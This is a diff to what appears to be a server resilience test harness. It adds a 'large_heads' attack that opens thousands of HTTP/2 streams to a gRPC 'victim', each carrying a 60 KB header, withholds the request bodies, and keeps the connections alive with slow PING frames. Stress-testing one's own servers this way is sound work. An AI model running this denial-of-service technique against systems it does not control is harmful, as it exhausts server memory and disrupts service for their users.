@@ -118,6 +118,19 @@ def open_streams(victim: Victim) -> None:
     _dripping(victim, http2.opening({}) + calls, http2.frame(http2.PING, payload=bytes(8)), http2_port=True)
 
 
+def large_heads(victim: Victim) -> None:
+    """Thousands of requests with heads of 60 KB each, which are held as long as their bodies do not come."""
+    field = b"\0\x01a\x7f" + b"\xe1\xd3\x03" + b"v" * 60_000
+
+    def talk() -> None:
+        calls = (begin(one, call_headers() + field) for one in range(1, 2 * _STREAMS, 2))
+        with Attack(victim.grpc, victim) as attack:
+            attack.pour(itertools.chain([http2.opening({})], calls))
+            attack.drip(http2.frame(http2.PING, payload=bytes(8)), _DRIP_S)
+
+    crowd(victim, 8, talk)
+
+
 def closed_windows(victim: Victim) -> None:
     """Answers of a MiB through windows of nothing, which grow by a byte every two seconds."""
     headers, body = call_headers(), framed(message(MIB // 4))
@@ -179,6 +192,7 @@ ATTACKS: Final = {
     "slow-bodies": slow_bodies,
     "half-requests": half_requests,
     "open-streams": open_streams,
+    "large-heads": large_heads,
     "closed-windows": closed_windows,
     "unread-http2": unread_http2,
     "unread-http1": unread_http1,
